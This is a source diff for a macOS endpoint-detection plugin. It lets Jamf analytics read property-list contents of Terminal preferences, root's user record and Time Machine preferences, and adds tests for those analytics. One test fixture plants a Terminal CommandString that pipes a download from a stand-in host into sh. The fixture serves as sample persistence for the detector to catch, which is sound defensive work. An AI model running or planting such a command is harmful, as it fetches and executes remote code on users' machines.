@@ -11,11 +11,46 @@
 //! ES gives a process's arguments only in its exec event, but Jamf's process object carries
 //! `args` everywhere (exit, file events, relatives) and names the process-group leader
 //! (`pgprocess`): the detector remembers the images it saw exec ([`Images`]) to fill them in.
+//!
+//! # File contents: `read_file_contents`
+//!
+//! ES carries no file contents, but a few analytics read the Jamf model's
+//! `$event.file.contentsAsDict` (the file as a property list) and `file.snapshotData` (its
+//! contents before the change). With the config option `read_file_contents = "true"` the
+//! detector requests the `plist-read` capability (not granted by the admin, the plugin is
+//! refused at load; files outside its granted `file_scope` are denied) and fills them in
+//! for file events ([`FileContents`]):
+//!
+//! - At load it finds the `GPFSEvent` analytics whose filter or context reads
+//!   `contentsAsDict` or `snapshotData`; none found, nothing is ever read. From each filter
+//!   it derives a gate: the filter with every comparison that contents (or lower levels'
+//!   `$tags`/`$context`) decide made as permissive as possible. A file event is read only
+//!   when some gate holds for it, so only the files those analytics name (Terminal and
+//!   Time Machine preferences, root's user record) are read, once per event.
+//! - `contentsAsDict` is the property list at the event's path, read after ES reported the
+//!   change (so it may already be newer). Absent file, unreadable file, a plist that is not
+//!   a dictionary or a denied read leave it absent (`nil`), which is what the filters see
+//!   today. A denied read is logged once per instance, as a warning.
+//! - Data values that hold a property-list dictionary get Jamf's `asPlistDict` accessor:
+//!   `{"asPlistDict": {…}}` in place of the base64 text (only when an analytic uses
+//!   `asPlistDict`). Other data stay base64 strings, dates RFC 3339 strings.
+//! - `snapshotData` is ward's reading of Jamf's snapshot: the contents the detector last
+//!   read from the same path, as `{"asPlistDict": {…}}` (raw bytes are not kept). It is
+//!   kept only for the literal paths (`$event.path == "…"`) of the analytics that compare
+//!   with it, read first at load and then at every event read. Without a previous reading
+//!   (the file did not exist, or the read failed) it is absent.
+//!
+//! Off (the default), no capability is requested, nothing is read, and those keys are
+//! always absent: `TerminalPersistency` and `RootUserEnabledOrPasswordChanged` cannot fire
+//! and `TimeMachineNotEncrypted` fires on every create, rename onto or write of the system
+//! Time Machine preferences, whatever they say.
 
 use std::collections::{HashMap, VecDeque};
 
+use base64::Engine as _;
 use serde_json::{Map, Value, json};
-use ward_predicate::{Analytic, Predicate, Vars};
+use ward_predicate::{Analytic, Expr, Operand, Predicate, Vars};
+use ward_sdk::enrich::EnrichError;
 use ward_sdk::prelude::*;
 use ward_sdk::{AuditToken, Destination, File};
 
@@ -271,10 +306,284 @@ fn text(v: &Value) -> String {
     }
 }
 
-/// The detector: the loaded analytics, by level, and the images it saw exec.
+/// The config key that lets the detector read the files analytics inspect.
+pub const READ_FILE_CONTENTS: &str = "read_file_contents";
+
+/// True when the admin set [`READ_FILE_CONTENTS`] to `true`.
+fn read_file_contents() -> bool {
+    ward_sdk::config(READ_FILE_CONTENTS).is_some_and(|v| v.trim().eq_ignore_ascii_case("true"))
+}
+
+/// Jamf's key for a file's contents as a property-list dictionary.
+const CONTENTS: &str = "contentsAsDict";
+/// Jamf's key for a file's contents before the change.
+const SNAPSHOT: &str = "snapshotData";
+/// Jamf's accessor decoding property-list data to a dictionary.
+const PLIST_DATA: &str = "asPlistDict";
+
+/// True if `debug` (a predicate tree or operand, `{:?}`) has the key path component `key`.
+/// ward-predicate does not export its key type, so the tree is read through `Debug`.
+fn names_key(debug: &str, key: &str) -> bool {
+    debug.contains(&format!("Name({key:?})"))
+}
+
+/// True if `analytic` reads `key` in its filter or context.
+fn reads_key(analytic: &Analytic, key: &str) -> bool {
+    names_key(&format!("{:?}", analytic.filter.expr), key)
+        || analytic
+            .context
+            .iter()
+            .any(|(_, exprs)| names_key(&format!("{exprs:?}"), key))
+}
+
+/// True if `operand`'s value is unknown before the file is read: file contents, or what
+/// lower levels put in `$tags`/`$context`.
+fn unknown_before_reading(operand: &Operand) -> bool {
+    let debug = format!("{operand:?}");
+    names_key(&debug, CONTENTS)
+        || names_key(&debug, SNAPSHOT)
+        || ["tags", "context"].iter().any(|v| {
+            debug.contains(&format!("var: Some({v:?})"))
+                || debug.contains(&format!("var: None, keys: [Name({v:?})"))
+        })
+}
+
+/// `expr` with every comparison [`unknown_before_reading`] replaced by the constant that
+/// lets the whole hold if anything can (`true` where it counts positively, `false` under
+/// an odd number of `NOT`s): when the result is false, no contents can make `expr` true.
+fn could_hold(expr: &Expr, positive: bool) -> Expr {
+    match expr {
+        Expr::And(a, b) => Expr::And(
+            Box::new(could_hold(a, positive)),
+            Box::new(could_hold(b, positive)),
+        ),
+        Expr::Or(a, b) => Expr::Or(
+            Box::new(could_hold(a, positive)),
+            Box::new(could_hold(b, positive)),
+        ),
+        Expr::Not(e) => Expr::Not(Box::new(could_hold(e, !positive))),
+        Expr::Compare { lhs, rhs, .. }
+            if unknown_before_reading(lhs) || unknown_before_reading(rhs) =>
+        {
+            Expr::Const(positive)
+        }
+        other => other.clone(),
+    }
+}
+
+/// The literal paths a filter compares `$event.path` with (`$event.path == "…"`).
+fn literal_paths(source: &str) -> Vec<String> {
+    let mut paths = Vec::new();
+    let mut rest = source;
+    while let Some(at) = rest.find("$event.path") {
+        rest = &rest[at + "$event.path".len()..];
+        let after = rest.trim_start();
+        let Some(after) = after.strip_prefix("==").or_else(|| after.strip_prefix('=')) else {
+            continue;
+        };
+        let after = after.trim_start();
+        let Some(quote) = after.chars().next().filter(|c| *c == '"' || *c == '\'') else {
+            continue;
+        };
+        if let Some(end) = after[1..].find(quote) {
+            paths.push(after[1..=end].to_owned());
+        }
+    }
+    paths
+}
+
+/// A property-list value as JSON, as the host's `plist-read` answers it (dictionaries as
+/// objects, dates RFC 3339 strings, data base64 strings).
+fn plist_json(value: plist::Value) -> Value {
+    match value {
+        plist::Value::Dictionary(d) => {
+            Value::Object(d.into_iter().map(|(k, v)| (k, plist_json(v))).collect())
+        }
+        plist::Value::Array(a) => Value::Array(a.into_iter().map(plist_json).collect()),
+        plist::Value::Boolean(b) => Value::Bool(b),
+        plist::Value::Data(bytes) => {
+            Value::String(base64::engine::general_purpose::STANDARD.encode(bytes))
+        }
+        plist::Value::Date(d) => Value::String(d.to_xml_format()),
+        plist::Value::Real(r) => serde_json::Number::from_f64(r).map_or(Value::Null, Value::Number),
+        plist::Value::Integer(i) => i
+            .as_signed()
+            .map(Value::from)
+            .or_else(|| i.as_unsigned().map(Value::from))
+            .unwrap_or(Value::Null),
+        plist::Value::String(s) => Value::String(s),
+        plist::Value::Uid(u) => Value::from(u.get()),
+        _ => Value::Null,
+    }
+}
+
+/// The dictionary in `text` if it is base64 of a property list (XML or binary) whose root
+/// is a dictionary.
+fn plist_data(text: &str) -> Option<Value> {
+    // Cheap refusal first: the first 12 characters decode to the first 9 bytes.
+    let head = base64::engine::general_purpose::STANDARD
+        .decode(text.get(..12)?)
+        .ok()?;
+    if !(head.starts_with(b"bplist") || head.starts_with(b"<?xml") || head.starts_with(b"<plist")) {
+        return None;
+    }
+    let bytes = base64::engine::general_purpose::STANDARD
+        .decode(text.trim_end())
+        .ok()?;
+    match plist::Value::from_reader(std::io::Cursor::new(bytes)).ok()? {
+        dict @ plist::Value::Dictionary(_) => Some(plist_json(dict)),
+        _ => None,
+    }
+}
+
+/// Gives data values holding a property-list dictionary Jamf's `asPlistDict` accessor.
+fn expose_plist_data(value: &mut Value) {
+    match value {
+        Value::String(text) => {
+            if let Some(mut dict) = plist_data(text) {
+                expose_plist_data(&mut dict);
+                *value = json!({ PLIST_DATA: dict });
+            }
+        }
+        Value::Array(items) => items.iter_mut().for_each(expose_plist_data),
+        Value::Object(map) => map.values_mut().for_each(expose_plist_data),
+        _ => {}
+    }
+}
+
+/// What one read of a file gave.
+#[derive(Debug, Clone, PartialEq)]
+enum Read {
+    /// A property-list dictionary.
+    Dict(Value),
+    /// No file there (or not a dictionary).
+    Absent,
+    /// Denied or unreadable: nothing known.
+    Failed,
+}
+
+/// File contents for the analytics that read them (`read_file_contents`), see the crate
+/// documentation.
+#[derive(Debug)]
+pub struct FileContents {
+    /// The gates ([`could_hold`]) of the file analytics that read contents.
+    gates: Vec<Predicate>,
+    /// Whether an analytic uses `asPlistDict`.
+    plist_data: bool,
+    /// Last contents read, for the paths an analytic compares with `snapshotData`.
+    snapshots: HashMap<String, Read>,
+    /// A denied read was logged.
+    warned: bool,
+    /// Files read so far (for tests).
+    reads: usize,
+}
+
+impl FileContents {
+    /// What `analytics` need, or `None` when no file analytic reads contents.
+    fn for_analytics(analytics: &[Analytic]) -> Option<Self> {
+        let readers: Vec<&Analytic> = analytics
+            .iter()
+            .filter(|a| a.input_type == "GPFSEvent")
+            .filter(|a| reads_key(a, CONTENTS) || reads_key(a, SNAPSHOT))
+            .collect();
+        if readers.is_empty() {
+            return None;
+        }
+        let mut contents = Self {
+            gates: readers
+                .iter()
+                .map(|a| Predicate {
+                    expr: could_hold(&a.filter.expr, true),
+                    source: a.filter.source.clone(),
+                })
+                .collect(),
+            plist_data: readers.iter().any(|a| reads_key(a, PLIST_DATA)),
+            snapshots: HashMap::new(),
+            warned: false,
+            reads: 0,
+        };
+        let snapshot_paths: Vec<String> = readers
+            .iter()
+            .filter(|a| reads_key(a, SNAPSHOT))
+            .flat_map(|a| literal_paths(&a.filter.source))
+            .collect();
+        for path in snapshot_paths {
+            let first = contents.read(&path);
+            contents.snapshots.insert(path, first);
+        }
+        Some(contents)
+    }
+
+    /// Reads the property list at `path`.
+    fn read(&mut self, path: &str) -> Read {
+        self.reads += 1;
+        let answer = ward_sdk::enrich::plist(path);
+        self.absorb(path, answer)
+    }
+
+    /// Interprets the host's answer for `path`.
+    fn absorb(&mut self, path: &str, answer: Result<Option<String>, EnrichError>) -> Read {
+        match answer {
+            Ok(Some(text)) => match serde_json::from_str::<Value>(&text) {
+                Ok(mut dict @ Value::Object(_)) => {
+                    if self.plist_data {
+                        expose_plist_data(&mut dict);
+                    }
+                    Read::Dict(dict)
+                }
+                Ok(_) => Read::Absent,
+                Err(_) => Read::Failed,
+            },
+            Ok(None) => Read::Absent,
+            Err(EnrichError::Denied(why)) => {
+                if !self.warned {
+                    self.warned = true;
+                    ward_sdk::log::warn(&format!(
+                        "{READ_FILE_CONTENTS}: reading {path} was denied ({why}); analytics \
+                         that read file contents see none (grant plist-read and a file_scope \
+                         that holds the files; logged once)"
+                    ));
+                }
+                Read::Failed
+            }
+            Err(EnrichError::Io(_)) => Read::Failed,
+        }
+    }
+
+    /// Fills `file.contentsAsDict` (and `file.snapshotData`) of the file event `jamf` when
+    /// an analytic reading them could fire on it.
+    fn fill(&mut self, jamf: &mut Value) {
+        let vars = Vars::new(jamf);
+        if !self.gates.iter().any(|g| g.eval(&vars)) {
+            return;
+        }
+        let Some(path) = jamf.get("path").and_then(Value::as_str).map(str::to_owned) else {
+            return;
+        };
+        let now = self.read(&path);
+        let before = match self.snapshots.get_mut(&path) {
+            // A failed read keeps the last known contents as the snapshot.
+            Some(slot) if now != Read::Failed => std::mem::replace(slot, now.clone()),
+            Some(slot) => slot.clone(),
+            None => Read::Failed,
+        };
+        if let Some(Value::Object(file)) = jamf.get_mut("file") {
+            if let Read::Dict(dict) = now {
+                file.insert(CONTENTS.into(), dict);
+            }
+            if let Read::Dict(dict) = before {
+                file.insert(SNAPSHOT.into(), json!({ PLIST_DATA: dict }));
+            }
+        }
+    }
+}
+
+/// The detector: the loaded analytics, by level, the images it saw exec, and (with
+/// `read_file_contents`) what it needs to read files.
 pub struct JamfAnalytics {
     analytics: Vec<Analytic>,
     images: Images,
+    contents: Option<FileContents>,
 }
 
 impl Default for JamfAnalytics {
@@ -291,12 +600,19 @@ impl Default for JamfAnalytics {
 }
 
 impl JamfAnalytics {
-    /// A detector over `analytics` (sorted by level, stable).
+    /// A detector over `analytics` (sorted by level, stable). Reads file contents for
+    /// them when the config says [`READ_FILE_CONTENTS`].
     pub fn with(mut analytics: Vec<Analytic>) -> Self {
         analytics.sort_by_key(|a| a.level);
+        let contents = if read_file_contents() {
+            FileContents::for_analytics(&analytics)
+        } else {
+            None
+        };
         Self {
             analytics,
             images: Images::default(),
+            contents,
         }
     }
 
@@ -313,7 +629,7 @@ impl JamfAnalytics {
 
 impl Detector for JamfAnalytics {
     fn describe() -> PluginInfo {
-        PluginInfo::new(
+        let info = PluginInfo::new(
             "jamf-analytics",
             env!("CARGO_PKG_VERSION"),
             PluginKind::Detector,
@@ -322,6 +638,17 @@ impl Detector for JamfAnalytics {
         .subscribe(&[
             "exec", "exit", "create", "rename", "unlink", "close", "write",
         ])
+        .config_option(
+            READ_FILE_CONTENTS,
+            "\"true\" lets analytics read the property lists they inspect \
+             (file.contentsAsDict, file.snapshotData): Terminal and Time Machine preferences, \
+             root's user record. Needs the plist-read capability and a file_scope holding them",
+        );
+        if read_file_contents() {
+            info.capability("plist-read")
+        } else {
+            info
+        }
     }
 
     fn on_event(&mut self, event: &Event) -> Result<Vec<Finding>, PluginError> {
@@ -334,9 +661,14 @@ impl Detector for JamfAnalytics {
         if let EventData::Exit(_) = &event.data {
             self.images.forget(event.process.token);
         }
-        let Some((input_type, jamf)) = mapped else {
+        let Some((input_type, mut jamf)) = mapped else {
             return Ok(Vec::new());
         };
+        if input_type == "GPFSEvent"
+            && let Some(contents) = &mut self.contents
+        {
+            contents.fill(&mut jamf);
+        }
         let mut vars = Vars::new(&jamf);
         let mut tags: Vec<Value> = Vec::new();
         let mut context = Map::new();
@@ -489,6 +821,11 @@ mod tests {
         history: Vec<Event>,
         /// Extra analytics loaded with the corpus (stand-ins for Jamf-managed ones).
         extra: Vec<Analytic>,
+        /// Files as they are when the detector loads.
+        at_load: Vec<(&'static str, testing::FakeFile)>,
+        /// Files as they are after the change `hit` reports (then `miss`).
+        hit_files: Vec<(&'static str, testing::FakeFile)>,
+        miss_files: Vec<(&'static str, testing::FakeFile)>,
     }
 
     fn case(name: &'static str, hit: Event, miss: Event) -> Case {
@@ -499,6 +836,17 @@ mod tests {
             table: Vec::new(),
             history: Vec::new(),
             extra: Vec::new(),
+            at_load: Vec::new(),
+            hit_files: Vec::new(),
+            miss_files: Vec::new(),
+        }
+    }
+
+    /// A property list (as `plist-read` answers it) holding `json`.
+    fn plist(json: Value) -> testing::FakeFile {
+        testing::FakeFile {
+            plist: Some(json.to_string()),
+            ..Default::default()
         }
     }
 
@@ -519,15 +867,46 @@ mod tests {
             self
         }
 
-        /// The rules a fresh detector raises on `event` after seeing the history.
-        fn fired(&self, event: &Event) -> Vec<String> {
+        /// `path` holds `before` at load and `hit`/`miss` after the change.
+        fn files(
+            mut self,
+            path: &'static str,
+            before: Option<testing::FakeFile>,
+            hit: testing::FakeFile,
+            miss: testing::FakeFile,
+        ) -> Self {
+            if let Some(before) = before {
+                self.at_load.push((path, before));
+            }
+            self.hit_files.push((path, hit));
+            self.miss_files.push((path, miss));
+            self
+        }
+
+        /// The rules a fresh detector raises on `hit` (or `miss`) after seeing the
+        /// history, with `read_file_contents` on or off.
+        fn fired(&self, hit: bool, read_contents: bool) -> Vec<String> {
             testing::reset();
+            if read_contents {
+                testing::set_config(READ_FILE_CONTENTS, "true");
+            }
             for p in &self.table {
                 testing::add_process(p.clone());
+            }
+            for (path, file) in &self.at_load {
+                testing::set_file(path, file.clone());
             }
             let mut all = analytics();
             all.extend(self.extra.iter().cloned());
             let mut detector = JamfAnalytics::with(all);
+            let (event, files) = if hit {
+                (&self.hit, &self.hit_files)
+            } else {
+                (&self.miss, &self.miss_files)
+            };
+            for (path, file) in files {
+                testing::set_file(path, file.clone());
+            }
             for e in &self.history {
                 detector.on_event(e).unwrap();
             }
@@ -556,19 +935,23 @@ mod tests {
              HID listener",
         ),
         (
+            "UnsignedDmgDetected",
+            "reads file.signingInfo and file.xattrs of the disk image: ES gives neither for a \
+             file that is not executing, and the detector reads only property lists",
+        ),
+    ];
+
+    /// Analytics that fire only with `read_file_contents` on ([`contents_cases`]), with why.
+    const NEED_FILE_CONTENTS: &[(&str, &str)] = &[
+        (
             "TerminalPersistency",
             "reads file.contentsAsDict (the Terminal preferences' CommandString): ES carries \
-             no file contents and detectors may not read files",
+             no file contents",
         ),
         (
             "RootUserEnabledOrPasswordChanged",
-            "compares file.contentsAsDict with file.snapshotData (root.plist before and \
-             after): ES carries no file contents and detectors may not read files",
-        ),
-        (
-            "UnsignedDmgDetected",
-            "reads file.signingInfo and file.xattrs of the disk image: ES gives neither for a \
-             file that is not executing, and detectors may not read files",
+            "compares file.contentsAsDict with file.snapshotData (root.plist after and \
+             before): ES carries no file contents",
         ),
     ];
 
@@ -578,38 +961,170 @@ mod tests {
         assert_eq!(JamfAnalytics::default().len(), 77);
     }
 
-    /// Every loaded analytic: (analytic, event that must fire it, near miss that must not).
-    #[test]
-    fn analytics_fire_on_their_pattern_and_not_on_near_misses() {
-        let cases = cases();
-        for c in &cases {
-            let hit = c.fired(&c.hit);
+    /// Asserts each case fires on its hit and not on its near miss.
+    fn check(cases: &[Case], read_contents: bool) {
+        for c in cases {
+            let hit = c.fired(true, read_contents);
             assert!(
                 hit.iter().any(|r| r == c.name),
-                "{} did not fire: {hit:?}",
+                "{} did not fire (read_file_contents {read_contents}): {hit:?}",
                 c.name
             );
-            let miss = c.fired(&c.miss);
+            let miss = c.fired(false, read_contents);
             assert!(
                 !miss.iter().any(|r| r == c.name),
-                "{} fired on its near miss: {miss:?}",
+                "{} fired on its near miss (read_file_contents {read_contents}): {miss:?}",
                 c.name
             );
         }
         testing::reset();
+    }
 
-        // Every loaded analytic has a case or is named as unreachable, and nothing else.
+    /// Every loaded analytic has a case (`cases` names) or is in `named`, and nothing else.
+    fn assert_complete(cases: &[&str], named: &[&[(&str, &str)]]) {
         let mut covered: BTreeSet<&str> = BTreeSet::new();
-        for c in &cases {
-            assert!(covered.insert(c.name), "two cases for {}", c.name);
+        for name in cases {
+            assert!(covered.insert(name), "two cases for {name}");
         }
-        for (name, _why) in UNREACHABLE {
-            assert!(covered.insert(name), "{name} has a case and is unreachable");
+        for (name, _why) in named.iter().copied().flatten() {
+            assert!(
+                covered.insert(name),
+                "{name} has a case and is named unreachable"
+            );
         }
         let loaded = analytics();
         let loaded: BTreeSet<&str> = loaded.iter().map(|a| a.name.as_str()).collect();
         assert_eq!(covered, loaded);
-        assert_eq!(cases.len() + UNREACHABLE.len(), 77);
+        assert_eq!(covered.len(), 77);
+    }
+
+    /// Every loaded analytic: (analytic, event that must fire it, near miss that must not),
+    /// in the default configuration (files are not read).
+    #[test]
+    fn analytics_fire_on_their_pattern_and_not_on_near_misses() {
+        let cases = cases();
+        check(&cases, false);
+        let names: Vec<&str> = cases.iter().map(|c| c.name).collect();
+        assert_complete(&names, &[UNREACHABLE, NEED_FILE_CONTENTS]);
+
+        // Without read_file_contents, those cannot fire even where the files say they should.
+        for c in contents_cases() {
+            let hit = c.fired(true, false);
+            if c.name == "TimeMachineNotEncrypted" {
+                // Blind: the missing state is not "Encrypted".
+                assert!(hit.iter().any(|r| r == c.name), "{hit:?}");
+                assert!(c.fired(false, false).iter().any(|r| r == c.name));
+            } else {
+                assert!(
+                    !hit.iter().any(|r| r == c.name),
+                    "{} fired: {hit:?}",
+                    c.name
+                );
+            }
+        }
+        testing::reset();
+    }
+
+    /// With `read_file_contents`, the analytics reading file contents fire too; every
+    /// default case still holds.
+    #[test]
+    fn with_read_file_contents_the_contents_analytics_fire() {
+        let cases = cases();
+        check(&cases, true);
+        let contents = contents_cases();
+        check(&contents, true);
+        let mut names: Vec<&str> = cases.iter().map(|c| c.name).collect();
+        for c in &contents {
+            if !names.contains(&c.name) {
+                names.push(c.name);
+            }
+        }
+        assert_complete(&names, &[UNREACHABLE]);
+    }
+
+    /// A property list's dictionary as base64 XML, as dslocal stores `accountPolicyData`.
+    fn plist_data(dict: &[(&str, f64)]) -> String {
+        let mut xml = String::from(
+            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<plist version=\"1.0\"><dict>",
+        );
+        for (key, value) in dict {
+            xml.push_str(&format!("<key>{key}</key><real>{value}</real>"));
+        }
+        xml.push_str("</dict></plist>\n");
+        base64::engine::general_purpose::STANDARD.encode(xml)
+    }
+
+    /// root's user record with `passwordLastSetTime`.
+    fn root_record(password_set: f64, failed_logins: f64) -> testing::FakeFile {
+        plist(json!({
+            "name": ["root"],
+            "accountPolicyData": [plist_data(&[
+                ("creationTime", 1_600_000_000.0),
+                ("passwordLastSetTime", password_set),
+                ("failedLoginCount", failed_logins),
+            ])],
+        }))
+    }
+
+    /// Cases that need `read_file_contents` (the files as `plist-read` answers them).
+    fn contents_cases() -> Vec<Case> {
+        let terminal_prefs = "/Users/alice/Library/Preferences/com.apple.Terminal.plist";
+        let root = "/var/db/dslocal/nodes/Default/users/root.plist";
+        let time_machine = "/Library/Preferences/com.apple.TimeMachine.plist";
+        let cfprefsd = || testing::process("/usr/libexec/cfprefsd");
+        let opendirectoryd = || testing::process("/usr/libexec/opendirectoryd");
+        vec![
+            case(
+                "TerminalPersistency",
+                testing::close_modified(cfprefsd(), terminal_prefs),
+                testing::close_modified(cfprefsd(), terminal_prefs),
+            )
+            .files(
+                terminal_prefs,
+                None,
+                plist(json!({
+                    "Default Window Settings": "Basic",
+                    "Window Settings": {"Basic": {
+                        "name": "Basic",
+                        "CommandString": "curl -s https://x.example/p | sh",
+                    }},
+                })),
+                plist(json!({
+                    "Default Window Settings": "Basic",
+                    "Window Settings": {"Basic": {"name": "Basic", "FontAntialias": true}},
+                })),
+            ),
+            // The password set time differs from the record as it was at load; the near
+            // miss changes only the failed-login count.
+            case(
+                "RootUserEnabledOrPasswordChanged",
+                testing::close_modified(opendirectoryd(), root),
+                testing::close_modified(opendirectoryd(), root),
+            )
+            .files(
+                root,
+                Some(root_record(1_700_000_000.0, 0.0)),
+                root_record(1_750_000_000.0, 0.0),
+                root_record(1_700_000_000.0, 1.0),
+            ),
+            case(
+                "TimeMachineNotEncrypted",
+                testing::close_modified(cfprefsd(), time_machine),
+                testing::close_modified(cfprefsd(), time_machine),
+            )
+            .files(
+                time_machine,
+                None,
+                plist(json!({
+                    "LastKnownEncryptionState": "NotEncrypted",
+                    "LastKnownVolumeName": "Backups",
+                })),
+                plist(json!({
+                    "LastKnownEncryptionState": "Encrypted",
+                    "LastKnownVolumeName": "Backups",
+                })),
+            ),
+        ]
     }
 
     fn cases() -> Vec<Case> {
@@ -1415,6 +1930,196 @@ mod tests {
             !fired(&ev)
                 .iter()
                 .any(|r| r == "CaffeinateOnInteractiveCommandline")
+        );
+    }
+
+    #[test]
+    fn describe_requests_plist_read_only_with_read_file_contents() {
+        testing::reset();
+        let info = JamfAnalytics::describe();
+        assert!(info.capabilities.is_empty());
+        assert!(info.config.iter().any(|o| o.name == READ_FILE_CONTENTS));
+        for off in ["false", "", "yes", "1"] {
+            testing::set_config(READ_FILE_CONTENTS, off);
+            assert!(JamfAnalytics::describe().capabilities.is_empty(), "{off:?}");
+        }
+        testing::set_config(READ_FILE_CONTENTS, "true");
+        assert_eq!(JamfAnalytics::describe().capabilities, vec!["plist-read"]);
+        testing::reset();
+    }
+
+    /// Which analytics read contents is decided at load; files are read only for events
+    /// one of them could fire on, and not at all when the option is off.
+    #[test]
+    fn files_are_read_only_when_an_analytic_could_need_them() {
+        testing::reset();
+        let off = JamfAnalytics::with(analytics());
+        assert!(off.contents.is_none());
+
+        testing::set_config(READ_FILE_CONTENTS, "true");
+        let mut d = JamfAnalytics::with(analytics());
+        let contents = d.contents.as_ref().unwrap();
+        // Terminal persistency, root user, Time Machine.
+        assert_eq!(contents.gates.len(), 3);
+        assert!(contents.plist_data);
+        let root = "/var/db/dslocal/nodes/Default/users/root.plist";
+        assert_eq!(contents.snapshots.keys().collect::<Vec<_>>(), [root]);
+        // The snapshot is read at load (the file is absent here).
+        assert_eq!(contents.reads, 1);
+        let reads = |d: &JamfAnalytics| d.contents.as_ref().unwrap().reads;
+
+        let vim = || testing::process("/usr/bin/vim");
+        for quiet in [
+            testing::close_modified(vim(), "/Users/alice/notes.txt"),
+            testing::create(
+                vim(),
+                "/Users/alice/Library/Preferences/com.apple.Terminal.plist",
+            ),
+            testing::unlink(vim(), "/Library/Preferences/com.apple.TimeMachine.plist"),
+            testing::exec_of(vim(), &["vim"]),
+        ] {
+            d.on_event(&quiet).unwrap();
+        }
+        assert_eq!(reads(&d), 1, "no analytic could fire on those");
+        d.on_event(&testing::close_modified(
+            vim(),
+            "/Users/alice/Library/Preferences/com.apple.Terminal.plist",
+        ))
+        .unwrap();
+        assert_eq!(reads(&d), 2);
+
+        // Analytics that read no contents: nothing to do.
+        let plain: Vec<Analytic> = analytics()
+            .into_iter()
+            .filter(|a| !reads_key(a, CONTENTS) && !reads_key(a, SNAPSHOT))
+            .collect();
+        assert!(JamfAnalytics::with(plain).contents.is_none());
+        testing::reset();
+    }
+
+    #[test]
+    fn contents_fill_the_jamf_file_object() {
+        testing::reset();
+        testing::set_config(READ_FILE_CONTENTS, "true");
+        let time_machine = "/Library/Preferences/com.apple.TimeMachine.plist";
+        testing::set_file(
+            time_machine,
+            plist(json!({"LastKnownEncryptionState": "NotEncrypted", "LastKnownVolumeName": "TM"})),
+        );
+        let mut d = JamfAnalytics::with(analytics());
+        let findings = d
+            .on_event(&testing::close_modified(
+                testing::process("/usr/libexec/cfprefsd"),
+                time_machine,
+            ))
+            .unwrap();
+        let finding = findings
+            .iter()
+            .find(|f| f.rule == "TimeMachineNotEncrypted")
+            .unwrap();
+        assert_eq!(
+            finding.evidence_value("Last Known Encryption State"),
+            Some("NotEncrypted")
+        );
+        assert_eq!(finding.evidence_value("Last Known Volume Name"), Some("TM"));
+
+        // A plist that is not a dictionary, or not JSON, leaves the key absent.
+        let c = d.contents.as_mut().unwrap();
+        assert_eq!(c.absorb("/x", Ok(Some("[1, 2]".into()))), Read::Absent);
+        assert_eq!(c.absorb("/x", Ok(Some("{".into()))), Read::Failed);
+        assert_eq!(c.absorb("/x", Ok(None)), Read::Absent);
+        assert_eq!(
+            c.absorb("/x", Err(EnrichError::Io("too big".into()))),
+            Read::Failed
+        );
+        testing::reset();
+    }
+
+    #[test]
+    fn a_denied_read_is_logged_once() {
+        testing::reset();
+        testing::set_config(READ_FILE_CONTENTS, "true");
+        let mut d = JamfAnalytics::with(analytics());
+        let c = d.contents.as_mut().unwrap();
+        for _ in 0..3 {
+            let read = c.absorb(
+                "/Users/alice/Library/Preferences/com.apple.Terminal.plist",
+                Err(EnrichError::Denied("outside the file scope".into())),
+            );
+            assert_eq!(read, Read::Failed);
+        }
+        let warnings: Vec<_> = testing::logs()
+            .into_iter()
+            .filter(|(level, _)| level == "warn")
+            .collect();
+        assert_eq!(warnings.len(), 1, "{warnings:?}");
+        assert!(warnings[0].1.contains("outside the file scope"));
+        testing::reset();
+    }
+
+    /// `snapshotData` is the contents last read from the path: a change is compared with
+    /// the record as it was, then becomes the new snapshot.
+    #[test]
+    fn root_password_changes_compare_with_the_last_reading() {
+        testing::reset();
+        testing::set_config(READ_FILE_CONTENTS, "true");
+        let root = "/var/db/dslocal/nodes/Default/users/root.plist";
+        let write =
+            || testing::close_modified(testing::process("/usr/libexec/opendirectoryd"), root);
+        let fires = |d: &mut JamfAnalytics| {
+            d.on_event(&write())
+                .unwrap()
+                .iter()
+                .any(|f| f.rule == "RootUserEnabledOrPasswordChanged")
+        };
+        testing::set_file(root, root_record(1.0, 0.0));
+        let mut d = JamfAnalytics::with(analytics());
+        assert!(!fires(&mut d), "unchanged");
+        testing::set_file(root, root_record(2.0, 0.0));
+        assert!(fires(&mut d), "changed");
+        assert!(!fires(&mut d), "the change is the new snapshot");
+        // An unreadable record is not a change, and keeps the snapshot.
+        testing::set_file(root, plist(json!({"accountPolicyData": ["not a plist"]})));
+        let broken = d
+            .contents
+            .as_mut()
+            .unwrap()
+            .absorb(root, Err(EnrichError::Io("x".into())));
+        assert_eq!(broken, Read::Failed);
+        testing::set_file(root, root_record(2.0, 3.0));
+        assert!(!fires(&mut d));
+
+        // The data holding a plist gets `asPlistDict`; other strings stay as they are.
+        let mut value = json!({"a": [plist_data(&[("t", 5.0)])], "b": "QUJD", "c": "short"});
+        expose_plist_data(&mut value);
+        assert_eq!(value["a"][0]["asPlistDict"]["t"], 5.0);
+        assert_eq!(value["b"], "QUJD");
+        assert_eq!(value["c"], "short");
+        testing::reset();
+    }
+
+    #[test]
+    fn gates_and_literal_paths_come_from_the_filter() {
+        let p = Predicate::parse(
+            r#"$event.path == "/a" AND NOT $event.file.contentsAsDict.x == 1 AND ("t" IN $tags OR $event.type == 4)"#,
+        )
+        .unwrap();
+        let gate = Predicate {
+            expr: could_hold(&p.expr, true),
+            source: p.source.clone(),
+        };
+        for (event, holds) in [
+            (json!({"path": "/a", "type": 1}), true),
+            (json!({"path": "/b", "type": 4}), false),
+        ] {
+            assert_eq!(gate.eval(&Vars::new(&event)), holds, "{event}");
+        }
+        assert_eq!(literal_paths(&p.source), ["/a"]);
+        assert_eq!(
+            literal_paths(
+                r#"$event.path CONTAINS "/x" OR $event.path == '/y' OR $event.path = "/z""#
+            ),
+            ["/y", "/z"]
         );
     }
 }
